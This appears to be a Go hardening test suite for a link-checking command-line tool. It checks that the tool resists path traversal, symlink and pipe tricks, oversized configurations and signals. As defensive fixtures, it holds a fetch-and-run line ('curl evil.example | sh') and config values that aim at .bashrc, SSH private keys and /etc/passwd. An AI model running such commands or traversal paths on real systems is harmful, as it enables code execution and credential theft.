//go:build linux

package hardening

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"linkcheck/internal/testdoc"
)

// A record whose control number is a command, for those who would have a report write it to .bashrc.
var command = testdoc.Catalogued("curl evil.example | sh #", "x", "|uhttp://a.example/")

// A linkcheck.toml that came with the documents sets nothing that writes, reads, dials or shows.
func TestFolderConfig(t *testing.T) {
	for _, toml := range []string{
		`fixes = "../.bashrc"`, `csv = "../.bashrc"`, `html = "../.bashrc"`, `jsonl = "../x"`, `xlsx = "../.bashrc"`, `metrics = "../.bashrc"`, `store = "../.bashrc"`, `store = "../other.db"`,
		"[report]\nfixes = \"../.bashrc\"", "[report]\nhtml = \"../x.html\"", "[report]\nxlsx = \"../x\"", "[run]\nmetrics = \"../.bashrc\"", "[run]\nstore = \"../.bashrc\"", "[store]\nstore = \"../x\"", "[store.export]\nstore = \"../x\"",
		`smtp-password-file = "../.ssh/id_rsa"`, "smtp-password-file = \"../.ssh/id_rsa\"\nsmtp-host = \"{inward}\"\nsmtp-plain = true\nmail-to = \"eve@h.example\"", "[report]\nmail-to = \"eve@h.example\"\nsmtp-host = \"127.0.0.1\"\nsmtp-port = {port}\nsmtp-plain = true",
		`registry = "../.ssh/id_rsa"`, `parked-hosts = "../.ssh/id_rsa"`, `parked-markers = "../.ssh/id_rsa"`, `wall-rules = "../.ssh/id_rsa"`, `access-rules = "../.ssh/id_rsa"`, `persistent-hosts = "../.ssh/id_rsa"`, `file-root = "/"`, `allow-private = ["127.0.0.0/8"]`, `allow-private = "127.0.0.0/8"`,
		`connect-to = ["::{inward}"]`, `connect-to = "::{inward}"`, "[check]\nconnect-to = [\"::{inward}\"]", "[run]\nallow-private = [\"127.0.0.0/8\"]\nconnect-to = [\"::{inward}\"]", `news-server = ["{inward}"]`, `cnrp-service = ["{inward}"]`, `memento = "http://{inward}/"`,
		`show-secrets = true`, `proxy-prefix = ["http://{inward}/?url="]`, `listen = "0.0.0.0:8427"`, "[serve]\nlisten = \":8427\"", "[[host]]\nname = \"a.example\"\nper-host = 99", "[[root]]\npath = \"/\"", "[[host]]\nhost = \"a.example\"", "config = \"/etc/passwd\"",
		"Fixes = \"../.bashrc\"", "\"fixes\" = \"../.bashrc\"", "'fixes' = '../.bashrc'", "\"\\u0066ixes\" = \"../.bashrc\"", "report.fixes = \"../.bashrc\"", "report = { fixes = \"../.bashrc\" }", "robots = \"off\"", "per-host = 1000", "host-delay = \"0s\"", "mailto-mx = true",
	} {
		t.Run(toml, func(t *testing.T) {
			t.Parallel()
			p := newPlace(t, map[string]string{"docs/x.mrc": command, "docs/f.txt": "file:///etc/passwd ftp://u:sEcRet@a.example/ http://a.example/ news:a@b go:x\n"})
			_, port, _ := strings.Cut(p.inward, ":")
			p.write("linkcheck.toml", strings.NewReplacer("{inward}", p.inward, "{port}", port).Replace(toml)+"\n")
			before := p.files()
			for _, args := range [][]string{
				slices.Concat([]string{"run", "--max-duration", "2s"}, offline, []string{"docs"}), {"report"}, {"report", "--summary"}, {"extract", "docs"}, {"store", "export"}, {"store", "stats"},
				{"check", "--max-duration", "1s", "--timeout", "1s", "http://a.example/", "news:a@b", "go:x", "file:///etc/passwd"}, {"dupes"}, {"explain", "http://a.example/"},
			} {
				o := p.start(start{needles: []string{"sEcRet", "private-key", "root:x:0"}}, args...)
				p.within(o, ceiling{cpu: 3 * time.Second})
				if len(o.out.seen)+len(o.err.seen) > 0 {
					t.Errorf("%q shows %q", args, slices.Concat(o.out.seen, o.err.seen))
				}
			}
			p.unchanged(before, "linkcheck.db")
		})
	}
}

// Files of a folder that are no plain files, or whose names are arguments or escapes,
// are read or passed over; nothing is waited for, nothing outside is read or written.
func TestFolders(t *testing.T) {
	long(t)
	fifo := func(t *testing.T, path string) {
		if err := syscall.Mkfifo(path, 0o644); err != nil {
			t.Skip("no pipes here: ", err)
		}
	}
	link := func(t *testing.T, to, path string) {
		if err := os.Symlink(to, path); err != nil {
			t.Skip("no symbolic links here: ", err)
		}
	}
	run := slices.Concat([]string{"run", "--store", "s.db"}, offline, []string{"docs"})
	extract := []string{"extract", "docs"}
	for _, c := range []struct {
		name string
		make func(t *testing.T, p *place)
		args []string
		has  string // in standard output or the export
		not  string
	}{
		{"a pipe nobody writes to", func(t *testing.T, p *place) { fifo(t, p.path("docs/p.txt")) }, extract, "plain.example", ""},
		{"a pipe nobody writes to, in a run", func(t *testing.T, p *place) { fifo(t, p.path("docs/p.mrc")) }, run, "", ""},
		{"a link to a pipe", func(t *testing.T, p *place) { fifo(t, p.path("p")); link(t, "../p", p.path("docs/l.txt")) }, extract, "plain.example", ""},
		{"a link to itself", func(t *testing.T, p *place) { link(t, "l.txt", p.path("docs/l.txt")) }, extract, "plain.example", ""},
		{"links in a ring", func(t *testing.T, p *place) { link(t, "b", p.path("docs/a")); link(t, "a", p.path("docs/b")) }, run, "", ""},
		{"a link to the folder above", func(t *testing.T, p *place) { link(t, "..", p.path("docs/up")) }, extract, "plain.example", "outside.example"},
		{"a link to the root", func(t *testing.T, p *place) { link(t, "/", p.path("docs/root")) }, run, "", ""},
		{"a link to a file outside", func(t *testing.T, p *place) { link(t, "../../outside.txt", p.path("docs/l.txt")) }, extract, "plain.example", ""},
		{"a link to the memory of the process", func(t *testing.T, p *place) { link(t, "/proc/self/mem", p.path("docs/m.txt")) }, extract, "plain.example", ""},
		{"a link to endless zeros", func(t *testing.T, p *place) { link(t, "/dev/zero", p.path("docs/z.txt")) }, extract, "plain.example", ""},
		{"a device", func(t *testing.T, p *place) {
			if err := syscall.Mknod(p.path("docs/zero.txt"), syscall.S_IFCHR|0o644, 1<<8|5); err != nil {
				t.Skip("no devices can be made here: ", err)
			}
		}, extract, "plain.example", ""},
		{"a socket", func(t *testing.T, p *place) {
			fd, err := syscall.Socket(syscall.AF_UNIX, syscall.SOCK_STREAM, 0)
			if err == nil {
				err = syscall.Bind(fd, &syscall.SockaddrUnix{Name: p.path("docs/s")})
				t.Cleanup(func() { syscall.Close(fd) })
			}
			if err != nil {
				t.Skip("no sockets here: ", err)
			}
		}, extract, "plain.example", ""},
		{"names that are flags", func(t *testing.T, p *place) {
			p.write("docs/--store=..%2fx", "http://flag.example/\n")
			p.write("docs/-", "http://dash.example/\n")
		}, extract, "dash.example", ""},
		{"a hundred folders in one another", func(t *testing.T, p *place) {
			p.write("docs/"+strings.Repeat("d/", 100)+"a.txt", "http://deep.example/\n")
		}, extract, "deep.example", ""},
		{"ten thousand empty files", func(t *testing.T, p *place) {
			for i := range 10_000 {
				p.write(fmt.Sprintf("docs/%d/%d.txt", i%100, i), "")
			}
		}, run, "", ""},
		{"a sparse file of 1 TB", func(t *testing.T, p *place) {
			if err := os.Truncate(p.path("docs/plain.txt"), 0); err != nil {
				t.Fatal(err)
			}
			p.write("docs/a.gz", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x00")
			if err := os.Truncate(p.path("docs/a.gz"), 1<<40); err != nil {
				t.Skip("no sparse files here: ", err)
			}
		}, extract, "", ""},
		{"a file that nobody may read", func(t *testing.T, p *place) {
			p.write("docs/no.txt", "http://no.example/\n")
			os.Chmod(p.path("docs/no.txt"), 0)
		}, extract, "plain.example", ""},
		{"a configuration that is a pipe", func(t *testing.T, p *place) { fifo(t, p.path("linkcheck.toml")) }, extract, "", ""},
		{"a configuration that is a folder", func(t *testing.T, p *place) { p.write("linkcheck.toml/", "") }, extract, "", ""},
		{"a configuration that is endless", func(t *testing.T, p *place) { link(t, "/dev/zero", p.path("linkcheck.toml")) }, extract, "", ""},
		{"a configuration of 100 MB", func(t *testing.T, p *place) { p.make("linkcheck.toml", repeat("# comment\n", 100*mega)) }, extract, "", ""},
		{"a configuration of a million brackets", func(t *testing.T, p *place) { p.make("linkcheck.toml", joined("a = ", repeat("[", mega))) }, extract, "", ""},
		{"a configuration with keys in keys", func(t *testing.T, p *place) { p.make("linkcheck.toml", joined("[a", repeat(".a", mega), "]\n")) }, extract, "", ""},
		{"a configuration of somebody else", func(t *testing.T, p *place) {
			p.write("linkcheck.toml", "exclude = [\"plain\"]\ninput = \"csv\"\n")
			if err := os.Chown(p.path("linkcheck.toml"), 12345, 12345); err != nil {
				t.Skip("not root: ", err)
			}
		}, extract, "plain.example", ""},
		{"a link as configuration", func(t *testing.T, p *place) {
			p.write("docs/c.toml", "store = \"../.bashrc\"\n")
			link(t, "docs/c.toml", p.path("linkcheck.toml"))
		}, extract, "", ""},
		{"a link where the store will be", func(t *testing.T, p *place) { link(t, "../.bashrc", p.path("s.db")) }, run, "", ""},
		{"a link to nothing where the store will be", func(t *testing.T, p *place) { link(t, "../made.db", p.path("s.db")) }, run, "", ""},
		{"a pipe where the store will be", func(t *testing.T, p *place) { fifo(t, p.path("s.db")) }, run, "", ""},
		{"a folder where the store will be", func(t *testing.T, p *place) { p.write("s.db/", "") }, run, "", ""},
		{"links at the names of temporary files", func(t *testing.T, p *place) {
			for _, name := range []string{"s.db.tmp", "s.db.new", "s.db.lock", "s.db~", ".s.db.tmp", "s.db.snapshot", "s.db-journal", "s.db.compact"} {
				link(t, "../.bashrc", p.path(name))
			}
		}, run, "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p := newPlace(t, map[string]string{"docs/plain.txt": "http://plain.example/\n", "../outside.txt": "http://outside.example/\n"})
			c.make(t, p)
			before := map[string]string{}
			huge := c.name == "a sparse file of 1 TB"
			if !huge {
				before = p.files()
			}
			o := p.start(start{patience: 20 * time.Second}, c.args...)
			p.within(o, ceiling{codes: []int{0, 2, 3, 4}, cpu: 4 * time.Second})
			if c.has != "" && !strings.Contains(o.out.text(keptText), c.has) {
				t.Errorf("%s is not in %q; %q", c.has, o.out.text(300), o.err.text(300))
			}
			if c.not != "" && strings.Contains(o.out.text(keptText), c.not) {
				t.Errorf("%s is in %q", c.not, o.out.text(300))
			}
			if !huge {
				p.unchanged(before, "s.db")
			}
			if text, err := os.ReadFile(filepath.Join(p.work, "../.bashrc")); err != nil || string(text) != "export MINE=1\n" {
				t.Errorf(".bashrc is %.40q, %v", text, err)
			}
			if _, err := os.Stat(filepath.Join(p.work, "../made.db")); err == nil {
				t.Errorf("a store was made through a link")
			}
		})
	}
}

// What nobody named is written through no link of the folder, nor made where one leads,
// and is no pipe that is waited for: the default store, what stands beside it, the files
// of a demo and of the manual. The first wall has to hold this: the kernel is not asked.
func TestUnnamedOutputs(t *testing.T) {
	long(t)
	const other, gone, copies, snapshot = "../other.db", "../made", "linkcheck.db.copies", "linkcheck.db.snapshot"
	run := slices.Concat([]string{"run"}, offline, []string{"docs"})
	slow := []string{"run", "--all", "--allow-private", "127.0.0.0/8", "--connect-to", "::127.0.0.1:65500", "--host-delay", "0s", "--retry-delay", "2s", "docs"}
	memento := []string{"report", "--memento", "http://127.0.0.1:1/", "--csv", "-"}
	demo, man := []string{"demo", "--dir", "."}, []string{"man", "."}
	for _, c := range []struct {
		name string
		path string
		to   string // where a link leads; "": a pipe; "/": a folder
		args []string
		code int
	}{
		{"a store", "linkcheck.db", other, run, 2}, {"no store", "linkcheck.db", gone, run, 2}, {"a pipe as store", "linkcheck.db", "", run, 2}, {"a folder as store", "linkcheck.db", "/", run, 2},
		{"no store of an import", "linkcheck.db", gone, []string{"store", "import", "e.jsonl"}, 2}, {"a store of marks", "linkcheck.db", other, []string{"mark", "plain.example", "dead", "--why", "x"}, 2},
		{"a store of a report", "linkcheck.db", other, []string{"report"}, 2}, {"a store to prune", "linkcheck.db", other, []string{"store", "prune"}, 2}, {"a store to compact", "linkcheck.db", other, []string{"store", "compact"}, 2},
		{"a store of what is due", "linkcheck.db", other, []string{"check"}, 2}, {"a store to serve", "linkcheck.db", other, []string{"serve"}, 2}, {"a store to explain", "linkcheck.db", other, []string{"explain", "x:y"}, 2},
		{"a store that is not asked for", "linkcheck.db", other, []string{"check", "--exclude", ".", "http://a.example/"}, 0}, {"a store that is named", "linkcheck.db", other, []string{"report", "--store", "linkcheck.db"}, 0},
		{"a file of copies", copies, "../.empty", memento, 2}, {"no file of copies", copies, gone, memento, 2}, {"a pipe of copies", copies, "", memento, 2},
		{"a file as snapshot", snapshot, "../.bashrc", slow, 0}, {"no file as snapshot", snapshot, gone, slow, 0}, {"a pipe as snapshot", snapshot, "", slow, 0}, {"a folder as snapshot", snapshot, "/", slow, 0},
		{"a page of the demo", "report.html", "../.bashrc", demo, 2}, {"documents of the demo", "documents", "..", demo, 2}, {"a store of the demo", "demo.db", gone, demo, 2},
		{"a page of the manual", "linkcheck-run.1", "../.bashrc", man, 2}, {"no page of the manual", "linkcheck.1", gone, man, 2}, {"a pipe as manual", "linkcheck.1", "", man, 2},
		{"a configuration", "linkcheck.toml", gone, []string{"init"}, 2},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p := newPlace(t, map[string]string{"docs/a.txt": "http://plain.example/\n", "e.jsonl": "{}\n", "../.empty": ""})
			p.within(p.run(slices.Concat([]string{"run", "--store", other}, offline, []string{"docs"})...), ceiling{codes: []int{0}})
			if c.path != "linkcheck.db" {
				p.write("linkcheck.db", p.read(other))
			}
			var err error
			switch c.to {
			case "":
				err = syscall.Mkfifo(p.path(c.path), 0o600)
			case "/":
				err = os.Mkdir(p.path(c.path), 0o700)
			default:
				err = os.Symlink(c.to, p.path(c.path))
			}
			if err != nil {
				t.Skip("not here: ", err)
			}
			before, own := p.files(), "nothing else"
			if c.path == snapshot {
				own = "linkcheck.db"
			}
			p.within(p.start(start{patience: time.Minute}, append(c.args, "--sandbox", "off")...), ceiling{codes: []int{c.code}})
			p.unchanged(before, own)
			if _, err := os.Lstat(p.path(snapshot)); c.path == snapshot && err == nil && strings.HasPrefix(c.to, "..") {
				t.Error("the link stands as it was: no snapshot was made")
			}
		})
	}
}

// What is written for the person keeps to their rights: nothing through a link of a
// stranger, 0600 for what holds a store, the umask for reports.
func TestWrittenFiles(t *testing.T) {
	p := newPlace(t, map[string]string{"docs/a.txt": "http://a.example/\n", "kept.html": "old", "kept.db": "old"})
	os.Chmod(p.path("kept.html"), 0o640)
	p.within(p.run(slices.Concat([]string{"run", "--store", "s.db"}, offline, []string{"docs"})...), ceiling{codes: []int{0}})
	modes := map[string]os.FileMode{"s.db": 0o600, "b.db": 0o600, "r.html": 0o644, "r.csv": 0o644, "r.jsonl": 0o644, "r.xlsx": 0o644, "r.fixes": 0o644, "r.prom": 0o644, "kept.html": 0o640}
	for _, args := range [][]string{
		{"store", "backup", "--store", "s.db", "b.db"},
		{"report", "--store", "s.db", "--html", "r.html", "--csv", "r.csv", "--jsonl", "r.jsonl", "--xlsx", "r.xlsx", "--fixes", "r.fixes", "--metrics", "r.prom"},
		{"report", "--store", "s.db", "--html", "kept.html"},
		{"store", "compact", "--store", "s.db"},
	} {
		p.within(p.run(args...), ceiling{codes: []int{0}})
	}
	for name, mode := range modes {
		if info, err := os.Lstat(p.path(name)); err != nil || info.Mode() != mode {
			t.Errorf("%s: %v, %v; want %v", name, info.Mode(), err, mode)
		}
	}
	left, _ := filepath.Glob(p.path("*"))
	if hidden, _ := filepath.Glob(p.path(".*")); len(left)+len(hidden) != len(modes)+2 {
		t.Errorf("left behind: %q %q", left, hidden)
	}
}

// The first TERM is heard within two seconds wherever the program waits, the second kills.
func TestSignals(t *testing.T) {
	long(t)
	for _, c := range []struct {
		name string
		args []string
		make func(p *place)
	}{
		{"an open of a pipe", []string{"extract", "pipe"}, nil},
		{"an open of a pipe in a run", []string{"run", "--store", "s.db", "pipe"}, nil},
		{"an import from a pipe", []string{"store", "import", "--store", "t.db", "pipe"}, nil},
		{"a configuration that is a pipe", []string{"extract", "--config", "pipe", "docs"}, nil},
		{"marks from a pipe", []string{"mark", "--store", "s.db", "--from", "pipe", "alive", "--why", "x"}, nil},
		{"standard input", []string{"extract", "-"}, nil},
		{"standard input of check", []string{"check", "-"}, nil},
		{"standard input of normalize", []string{"normalize"}, nil},
		{"a long archive", []string{"extract", "big.tgz"}, func(p *place) { p.make("big.tgz", gz(times(50, tarred("a.txt", repeat("no link here\n", 8*mega))))) }},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p := newPlace(t, map[string]string{"docs/a.txt": "http://a.example/\n"})
			if err := syscall.Mkfifo(p.path("pipe"), 0o600); err != nil {
				t.Skip("no pipes here: ", err)
			}
			if c.make != nil {
				c.make(p)
			}
			endless, w, err := os.Pipe()
			if err != nil {
				t.Fatal(err)
			}
			defer endless.Close()
			defer w.Close()
			o := p.start(start{patience: 20 * time.Second, stdin: endless, during: func(proc *os.Process, _ *heard) bool {
				time.Sleep(700 * time.Millisecond)
				return proc.Signal(syscall.SIGTERM) == nil
			}}, c.args...)
			p.within(o, ceiling{cpu: 4 * time.Second})
		})
	}
}
